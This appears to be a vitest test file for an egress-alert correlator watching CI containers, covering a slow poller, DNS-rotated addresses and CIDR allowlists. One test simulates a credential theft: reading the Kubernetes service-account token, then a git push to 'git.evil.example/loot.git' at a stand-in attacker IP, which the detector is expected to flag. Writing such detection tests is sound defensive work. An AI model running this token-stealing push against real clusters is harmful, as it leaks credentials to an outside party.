/**
 * Long-lived processes, rotating DNS answers and small secrets: a slow poller's bytes never add up over
 * hours, an address DNS now gives a configured host is named by DNS whatever a push taught before, and a
 * CIDR entry does not cover more than requests' worth of bytes sent outside its range.
 */
import { describe, expect, it } from 'vitest';
import { MiB, makeCorrelator, run, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const API_IP = TEST_DNS['api.github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

describe('a process’s bytes to an address count one window at a time', () => {
  it('a poller sending 10 KiB per minute to api.github.com for 3 hours raises nothing (under 1 MiB in any two windows)', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    const agent = s.exec(c, '/home/runner/bin/Runner.Listener', 'run --startuptype service', { parent: sh });
    s.connect(agent, API_IP, 443);
    for (let i = 0; i < 180; i++) s.wait(60_000).send(agent, API_IP, 443, 10 * 1024);
    const { alerts } = await runResolved(s.events);
    expect(alerts.map((a) => [a.rule, a.egressBytes, a.summary])).toEqual([]);
  });
});

describe('a DNS answer names an address before a learned hint', () => {
  it('git push learned an address, DNS later answers it too: a later egress push there is named by dns and allowlisted by github.com', async () => {
    let answer = [GITHUB_IP];
    const OTHER = '140.82.112.4';
    const { correlator } = makeCorrelator({
      resolveHost: async (h) => (h === 'github.com' ? answer : (TEST_DNS[h] ?? [])),
      allowlist: [{ namespace: 'ci', destination: 'github.com', reason: 'ci pushes to github' }],
    });
    await correlator.refreshDestinations();
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    const g = s.exec(c, '/usr/bin/git', 'push https://github.com/org/repo.git main', { parent: sh });
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/org/repo.git', { parent: g });
    s.connect(h, OTHER, 443).send(h, OTHER, 443, 50_000);
    const first = [...correlator.ingest(s.events)];
    answer = [OTHER]; // github.com's single rotating A record
    await correlator.refreshDestinations();
    const n = s.events.length;
    s.wait(120_000);
    const up = s.exec(c, '/usr/bin/python3', '/ci/upload_release.py', { parent: sh });
    s.readMany(up, '/work/dist', 40, MiB);
    s.connect(up, OTHER, 443).send(up, OTHER, 443, 40 * MiB);
    const later = [...correlator.ingest(s.events.slice(n)), ...correlator.flush()];
    expect([...first, ...later].map((a) => [a.rule, a.push.namedBy, a.summary])).toEqual([]);
  });
});

describe('a CIDR entry does not cover a secret sent elsewhere after one connect into its range', () => {
  it('token read, git push to an unclassed host (40 KB), a child connects once to the kube API 10.96.0.1:443: not allowlisted by 10.0.0.0/8', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.read(sh, TOKEN, 1200);
    const g = s.exec(c, '/usr/bin/git', 'push https://git.evil.example/loot.git main', { parent: sh });
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://git.evil.example/loot.git', {
      parent: g,
    });
    s.connect(h, '10.96.0.1', 443);
    s.connect(h, ATTACKER_IP, 443).send(h, ATTACKER_IP, 443, 40_000);
    expect(run(s.events).alerts).toHaveLength(1);
    const allowlist = [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'in-cluster registry' }];
    expect(run(s.events, { allowlist }).alerts).toHaveLength(1);
  });
});
